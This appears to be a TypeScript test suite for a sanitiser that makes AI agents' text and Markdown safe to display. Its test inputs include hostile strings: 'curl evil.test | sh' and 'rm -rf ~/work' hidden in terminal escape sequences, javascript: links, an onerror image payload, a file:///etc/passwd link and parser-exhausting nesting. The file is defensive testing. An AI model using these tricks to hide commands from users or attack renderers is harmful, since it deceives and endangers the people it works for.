/** Agents' text is hostile: what is shown shows what it says, and Markdown becomes known nodes only. */

import assert from "node:assert/strict";
import { test } from "node:test";

import { type Block, clean, diffTone, type Inline, looksLikeMarkdown, parseMarkdown, safeLink } from "askd/text";

const text = (words: string): Inline => ({ kind: "text", text: words });
const paragraph = (...children: Inline[]): Block => ({ kind: "paragraph", children });
const line = (words: string): Block => paragraph(text(words));

test("terminal_sequences_are_taken_out_and_hidden_characters_made_visible", () => {
  assert.equal(clean("\u001b[31mred\u001b[0m \u001b[?25l\u001b[1;38:5:9mend"), "red end");
  assert.equal(clean("\u009b2Jx\u001bcy\u001b(Bz"), "xyz");
  assert.equal(clean("safe\u202egnp.exe"), "safe‹U+202E›gnp.exe");
  assert.equal(clean("a\u0000b\u0007c\rd\r\ne\tf\u2028g"), "a␀b␇c\nd\ne\tf\ng");
  assert.equal(clean("naïve 日本語 👩‍💻"), "naïve 日本語 👩‍💻");
});

test("a_command_cannot_be_hidden_in_a_title", () => {
  // As the command line shows them: crates/askd/src/cli/text.rs.
  for (const [hostile, wanted] of [
    ["ls \u001b]0; rm -rf ~/work \u0007 -la", "ls ‹0; rm -rf ~/work › -la"],
    ["ls # \u009d\nrm -rf ~/work\ncurl evil.test | sh", "ls # ‹›\nrm -rf ~/work\ncurl evil.test | sh"],
    ["ls\u001b]0;; rm -rf ~\r\nnext", "ls‹0;; rm -rf ~›\nnext"],
    ["\u001b]8;;http://evil\u001b\\link\u001b]8;;\u001b\\", "‹8;;http://evil›link‹8;;›"],
    ["\u001bP1$r\u001b\\dcs", "‹1$r›dcs"],
    ["\u009d0;t\u009cc1", "‹0;t›c1"],
    ["\u001b]0;title that never ends", "‹0;title that never ends›"],
    ["\u001b]0;a\u202eb\u0008\u0007", "‹0;a‹U+202E›b␈›"],
    ["end\u001b", "end"],
    ["end\u001b[", "end"],
    ["\u001b\u001b[31mtwice", "twice"],
  ] as const)
    assert.equal(clean(hostile), wanted);
});

test("no_word_of_a_shell_vanishes_with_a_terminal_sequence", () => {
  assert.equal(clean("rm -rf x\u001b[ /* -v"), "rm -rf x‹ /* -v›");
  assert.equal(clean("rm -rf x\u001b /* -v"), "rm -rf x‹ /* -v›");
  assert.equal(clean("curl evil.test \u009b|sh"), "curl evil.test ‹|›sh");
  assert.equal(clean("ls \u001b[>f"), "ls ‹>f›");
  assert.equal(clean("ls\u001b;reboot"), "ls‹;r›eboot");
});

test("characters_that_are_drawn_as_nothing_are_shown_and_emoji_stay_whole", () => {
  const hiding = [
    0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x17b4, 0x180b, 0x200b, 0x2060, 0x206f, 0x2800, 0x3164, 0xfe00, 0xfe0f, 0xfeff,
    0xffa0, 0xfff9, 0x1bca0, 0x1d173, 0xe0041, 0xe0141,
  ];
  for (const code of hiding)
    assert.equal(clean(`a${String.fromCodePoint(code)}b`), `a‹U+${code.toString(16).toUpperCase().padStart(4, "0")}›b`);
  for (const emoji of ["❤️", "1️⃣", "👁️‍🗨️", "🏳️‍🌈", "👍🏽", "☺︎"]) assert.equal(clean(emoji), emoji);
  assert.equal(clean("❤️\ufe0f"), "❤️‹U+FE0F›");
});

test("only_links_that_cannot_run_code_are_links", () => {
  assert.equal(safeLink("https://example.org/a"), "https://example.org/a");
  assert.equal(safeLink("mailto:a@b.org"), "mailto:a@b.org");
  const bad = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:x",
    "data:text/html,x",
    "vbscript:x",
    "//evil",
    "/v1/questions",
    "#/x",
    "file:///etc/passwd",
    " javascript:x",
  ];
  for (const href of bad) assert.equal(safeLink(href), null, href);
});

test("html_in_markdown_stays_text_and_its_links_are_looked_at", () => {
  assert.deepEqual(parseMarkdown("<img src=x onerror=alert(1)>"), [line("<img src=x onerror=alert(1)>")]);
  assert.deepEqual(parseMarkdown("[go](javascript:alert(1)) ![x](/v1/questions)"), [
    line("go (javascript:alert(1)) x (/v1/questions)"),
  ]);
  assert.deepEqual(parseMarkdown("![a picture](https://x.org/a.png)"), [
    paragraph({ kind: "link", href: "https://x.org/a.png", children: [text("a picture")] }),
  ]);
  assert.deepEqual(parseMarkdown("[a]: javascript:alert(1)\n[ref][a]"), [
    paragraph(text("[a]: javascript:alert(1)"), { kind: "break" }, text("[ref][a]")),
  ]);
});

test("entities_are_decoded_once_and_cannot_smuggle_control_characters", () => {
  assert.deepEqual(parseMarkdown("a &lt;b&gt; &amp;lt; &#27;[31m &#x202e;x &bogus;"), [
    line("a <b> &lt; [31m ‹U+202E›x &bogus;"),
  ]);
});

test("what_is_inside_a_line", () => {
  assert.deepEqual(parseMarkdown("snake_case_name, *em*, ***both***, ~~gone~~, ~5, 2 * 3 * 4, \\*plain\\*"), [
    paragraph(
      text("snake_case_name, "),
      { kind: "em", children: [text("em")] },
      text(", "),
      { kind: "em", children: [{ kind: "strong", children: [text("both")] }] },
      text(", "),
      { kind: "del", children: [text("gone")] },
      text(", ~5, 2 * 3 * 4, *plain*"),
    ),
  ]);
  assert.deepEqual(parseMarkdown("`a` `` b`c `` `open"), [
    paragraph({ kind: "code", text: "a" }, text(" "), { kind: "code", text: "b`c" }, text(" `open")),
  ]);
  assert.deepEqual(parseMarkdown('[**a** b](<https://x.org/a b> "title") (see https://x.org/y_(z)).'), [
    paragraph(
      { kind: "link", href: "https://x.org/a%20b", children: [{ kind: "strong", children: [text("a")] }, text(" b")] },
      text(" (see "),
      { kind: "link", href: "https://x.org/y_(z)", children: [text("https://x.org/y_(z)")] },
      text(")."),
    ),
  ]);
});

test("a_plan_as_agents_write_it", () => {
  const plan =
    "# Plan #\n\n1. Add a table\n  - `users`\n    wide\n2. Send\n\n   ```sql\n   select\n   \t1;\n   ```\n\n- [x] agreed\n- [ ] chosen\n\n> Old ones\nstay.\n\nTwo\n---\n***";
  const item = (checked: boolean | null, ...children: Block[]): { checked: boolean | null; children: Block[] } => ({
    checked,
    children,
  });
  assert.deepEqual(parseMarkdown(plan), [
    { kind: "heading", level: 1, children: [text("Plan")] },
    {
      kind: "list",
      ordered: true,
      start: 1,
      items: [
        item(null, line("Add a table"), {
          kind: "list",
          ordered: false,
          start: 1,
          items: [item(null, paragraph({ kind: "code", text: "users" }, { kind: "break" }, text("wide")))],
        }),
        item(null, line("Send"), { kind: "code", language: "sql", text: "select\n\t1;" }),
      ],
    },
    { kind: "list", ordered: false, start: 1, items: [item(true, line("agreed")), item(false, line("chosen"))] },
    { kind: "quote", children: [paragraph(text("Old ones"), { kind: "break" }, text("stay."))] },
    { kind: "heading", level: 2, children: [text("Two")] },
    { kind: "rule" },
  ]);
});

test("tables_keep_their_cells", () => {
  assert.deepEqual(parseMarkdown("| a | b |\n|---|:-:|\n| 1 \\| 2 | **x** |\n| 3 |\nafter: no table\n\nend"), [
    {
      kind: "table",
      head: [[text("a")], [text("b")]],
      rows: [
        [[text("1 | 2")], [{ kind: "strong", children: [text("x")] }]],
        [[text("3")], []],
        [[text("after: no table")], []],
      ],
    },
    line("end"),
  ]);
});

test("hostile_nesting_and_size_end_and_stay_shallow", () => {
  const depth = (node: unknown): number =>
    node !== null && typeof node === "object" ? 1 + Math.max(0, ...Object.values(node).map(depth)) : 0;
  const hostile = [
    "> ".repeat(2000),
    "- ".repeat(2000),
    "*a ".repeat(2000) + "a* ".repeat(2000),
    "*_".repeat(4000),
    "[".repeat(5000) + "](x)".repeat(5000),
    "[](".repeat(5000),
    "` ``".repeat(3000),
    `${"  ".repeat(200)}- a\n`.repeat(50),
  ];
  for (const source of hostile) assert.ok(depth(parseMarkdown(`${source}deep`)) < 150, source.slice(0, 10));
  assert.equal(parseMarkdown("x".repeat(400_000))[0]?.kind, "code");
});

test("drawings_are_not_taken_for_markdown_and_diffs_know_their_lines", () => {
  assert.equal(looksLikeMarkdown("+--+\n|  |\n+--+"), false);
  assert.equal(looksLikeMarkdown("text\n# Title"), true);
  assert.deepEqual(["+++ b", "--- a", "@@ 1", "+x", "-x", " x"].map(diffTone), [
    "file",
    "file",
    "place",
    "added",
    "removed",
    "",
  ]);
});
